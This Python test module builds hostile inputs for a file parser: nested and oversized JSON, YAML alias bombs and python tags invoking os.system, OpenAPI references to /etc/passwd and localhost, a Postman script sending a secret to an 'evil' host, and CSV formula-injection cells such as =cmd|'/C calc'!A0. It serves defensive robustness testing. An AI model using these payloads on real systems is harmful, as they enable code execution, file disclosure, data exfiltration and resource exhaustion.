"""Hostile JSON, YAML, descriptions of APIs, Postman collections and tables."""

import json
from typing import Any

from tests.doubles.hostile_kinds import EVIL, MEGABYTE, Kind, Size


def _json(data: Any) -> bytes:
    return json.dumps(data, ensure_ascii=False).encode()


def _deep_json(size: Size) -> bytes:
    depth = size.of(100_000, 100)
    opened, closed = size.dice.choice([("[", "]"), ('{"a":', "}")])
    return f"{opened * depth}1{closed * depth}".encode()


def _not_json(size: Size) -> bytes:
    return size.dice.choice(
        [b'{"a": NaN}', b'{"a": -Infinity}', b'{"a": 1,}', b"{'a': 1}", b'{"a": 01}', b'{"a"', b'["\\ud800', b"{]"]
    )


def _huge_numbers(size: Size) -> bytes:
    digits = "9" * size.of(2 * MEGABYTE, 5000)
    return f'{{"amount": {size.dice.choice([digits, "1e999999", f"0.{digits}", f"-{digits}"])}}}'.encode()


def _twice(size: Size) -> bytes:
    return b'{"approved": false, "amount": 1, "approved": true}'


def _many_nodes(size: Size) -> bytes:
    return b"[" + b"0," * size.of(600_000, 510_000) + b"0]"


def _long_string(size: Size) -> bytes:
    part = size.dice.choice(["\\", '"', "\\u0000", "\\ud800", "x"])
    return _json({"note": part * size.of(8 * MEGABYTE, 100_000)})


def _alias_bomb(size: Size) -> bytes:
    levels = size.dice.randint(8, 14)
    lines = ["a0: &a0 [ha, ha]"] + [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, levels)]
    return "\n".join(lines).encode()


def _tags(size: Size) -> bytes:
    order = size.dice.choice(
        ["object/apply:os.system ['id']", "object/new:subprocess.Popen [['id']]", "name:os.system", "module:antigravity"]
    )
    return f"run: !!python/{order}\n".encode()


def _merge_keys(size: Size) -> bytes:
    lines = ["m0: &m0 {k: v}"] + [f"m{n}: &m{n} {{<<: [*m{n - 1}, *m{n - 1}]}}" for n in range(1, size.of(2000, 50))]
    return "\n".join(lines).encode()


def _deep_yaml(size: Size) -> bytes:
    depth = size.of(100_000, 100)
    if size.dice.random() < 0.5:
        return ("[" * depth + "]" * depth).encode()
    return "".join(f"{' ' * n}a:\n" for n in range(min(depth, 3000))).encode()


def _odd_yaml(size: Size) -> bytes:
    return size.dice.choice(
        [
            b"a: !!binary x\n? [b]\n: c\n",
            b"? {a: 1}\n: 2\n",
            b"%YAML 9.9\n---\na: 1\n",
            b"a: *nobody\n",
            b"\ta: 1\n",
            b"a: b: c\n",
        ]
    )


def _api(paths: dict[str, Any], schemas: dict[str, Any]) -> bytes:
    return _json({"openapi": "3.1.0", "info": {"title": "Hostile"}, "paths": paths, "components": {"schemas": schemas}})


def _body(schema: Any) -> dict[str, Any]:
    return {
        "post": {
            "requestBody": {"content": {"application/json": {"schema": schema}}},
            "responses": {"200": {"description": "ok"}},
        }
    }


def _to(name: str) -> dict[str, str]:
    return {"$ref": f"#/components/schemas/{name}"}


def _reference_loops(size: Size) -> bytes:
    names = [f"S{n}" for n in range(size.of(3000, 50))]
    schemas: dict[str, Any] = {
        name: {
            "allOf": [_to(other) for other in size.dice.sample(names, 9)],
            "properties": {"next": _to(size.dice.choice(names))},
        }
        for name in names
    }
    schemas |= {"Self": _to("Self"), "Pair": {"$ref": "#/components/schemas/Other"}, "Other": _to("Pair")}
    paths = {f"/p{n}": _body(_to(size.dice.choice([*names, "Self", "Pair"]))) for n in range(size.of(3000, 50))}
    return _api(paths, schemas)


def _foreign_references(size: Size) -> bytes:
    places = [
        "file:///etc/passwd",
        "http://127.0.0.1:9/x.json",
        "/etc/passwd",
        "../../etc/passwd#/x",
        "//127.0.0.1/share",
        "#/../x",
        "#",
    ]
    return _api({f"/p{n}": _body({"$ref": place}) for n, place in enumerate(places)} | {"/q": {"$ref": places[0]}}, {})


def _many_operations(size: Size) -> bytes:
    wide = {"properties": {f"f{n}": {"type": "string", "description": "d" * 100} for n in range(500)}}
    return _api({f"/p{n}": _body(_to("Wide")) for n in range(size.of(20_000, 1_000))}, {"Wide": wide})


def _multiplying_schema(size: Size) -> bytes:
    depth = size.dice.randint(10, 40)
    schemas = {
        f"L{n}": {"properties": {f"f{i}": _to(f"L{n + 1}") for i in range(12)}, "oneOf": [_to(f"L{n + 1}")] * 9}
        for n in range(depth)
    }
    return _api({"/p": _body(_to("L0"))}, schemas)


def _odd_api(size: Size) -> bytes:
    odd: Any = size.dice.choice([None, 7, "text", [[]], {"get": {"get": {}}}, [{}], {"$ref": 5}, {"$ref": "#/paths"}])
    operation = {
        "parameters": [odd, {"name": odd, "in": odd, "schema": odd}],
        "requestBody": odd,
        "responses": {"x": odd},
        "tags": odd,
    }
    paths = {"/a": odd, "/b": {"get": operation, "put": odd}}
    return _json(
        {"openapi": "3.0.0", "info": odd, "paths": paths, "servers": odd, "security": odd, "components": odd, "tags": odd}
    )


def _postman(items: list[Any]) -> bytes:
    return _json({"info": {"name": "Hostile", "schema": "https://schema.getpostman.com/v2.1.0/collection.json"}, "item": items})


def _postman_tower(size: Size) -> bytes:
    item: dict[str, Any] = {"name": "last", "request": "http://bank.example"}
    for _ in range(size.dice.randint(20, 60)):
        item = {"name": "folder", "item": [item]}
    return _postman([item])


def _postman_secrets(size: Size) -> bytes:
    script = {"listen": "test", "script": {"exec": [f"pm.sendRequest('http://evil/{EVIL}')"]}}
    header = [{"key": "Authorization", "value": f"Bearer {EVIL}"}]
    request = {
        "url": f"http://a:{EVIL}@bank.example",
        "header": header,
        "body": {"mode": "raw", "raw": '{"a' * size.of(100_000, 10)},
    }
    return _postman([{"name": "Sign in", "request": request, "event": [script]}])


def _one_line_csv(size: Size) -> bytes:
    return b"a,b\n" + size.text(19 * MEGABYTE, MEGABYTE, "x", "x,", '"', '"x', "\\,").encode()


def _wide_csv(size: Size) -> bytes:
    columns = size.of(10_000, 600)
    return "\n".join(",".join(f"{row}.{n}" for n in range(columns)) for row in range(20)).encode()


def _long_csv(size: Size) -> bytes:
    return b"name,amount\n" + b"x,1\n" * size.of(1_000_000, 201_000)


def _nul_csv(size: Size) -> bytes:
    return b"a,b\n1,\0\0\0\n2,3\n" * size.of(1000)


def _formula_csv(size: Size) -> bytes:
    evil = ["=cmd|'/C calc'!A0", '=HYPERLINK("http://evil.example")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "=IMPORTXML(A1)"]
    rows = [[size.dice.choice(evil), "100", str(number)] for number in range(size.of(500, 5))]
    return (
        "name,amount,number\n" + "\n".join(",".join(f'"{cell.replace(chr(34), chr(34) * 2)}"' for cell in row) for row in rows)
    ).encode()


def _mixed_csv(size: Size) -> bytes:
    lines = ["名称,金额".encode(), "渠道限额,1".encode("gb18030"), "é,2".encode("latin-1"), "x,3".encode("utf-16-le")]
    size.dice.shuffle(lines)
    return b"\n".join(lines)


def _ragged_csv(size: Size) -> bytes:
    return "\n".join(",".join(["x"] * size.dice.randint(0, 60)) for _ in range(size.of(20_000, 100))).encode()


KINDS = (
    Kind("json nested without end", ".json", "refused", _deep_json),
    Kind("json that is none", ".json", "refused", _not_json),
    Kind("json with numbers of millions of digits", ".json", "either", _huge_numbers),
    Kind("json with a key twice", ".json", "refused", _twice),
    Kind("json of too many values", ".json", "refused", _many_nodes),
    Kind("json with a text of megabytes", ".json", "either", _long_string),
    Kind("yaml with an alias bomb", ".yaml", "refused", _alias_bomb),
    Kind("yaml with tags that would run", ".yaml", "refused", _tags),
    Kind("yaml with merge keys", ".yaml", "refused", _merge_keys),
    Kind("yaml nested without end", ".yml", "refused", _deep_yaml),
    Kind("yaml with odd keys", ".yaml", "either", _odd_yaml),
    Kind("openapi with reference loops", ".json", "read", _reference_loops),
    Kind("openapi with references to files and hosts", ".json", "read", _foreign_references),
    Kind("openapi of twenty thousand operations", ".json", "read", _many_operations),
    Kind("openapi whose schemas multiply", ".json", "read", _multiplying_schema),
    Kind("openapi with parts of the wrong kind", ".json", "read", _odd_api),
    Kind("postman folders in folders", ".json", "either", _postman_tower),
    Kind("postman with secrets and scripts", ".json", "read", _postman_secrets),
    Kind("csv with one line of megabytes", ".csv", "either", _one_line_csv),
    Kind("csv of ten thousand columns", ".csv", "refused", _wide_csv),
    Kind("csv of a million rows", ".csv", "refused", _long_csv),
    Kind("csv with zero bytes", ".csv", "refused", _nul_csv),
    Kind("csv with formulas", ".csv", "read", _formula_csv),
    Kind("csv in several encodings", ".csv", "either", _mixed_csv),
    Kind("csv of ragged rows", ".csv", "either", _ragged_csv),
)
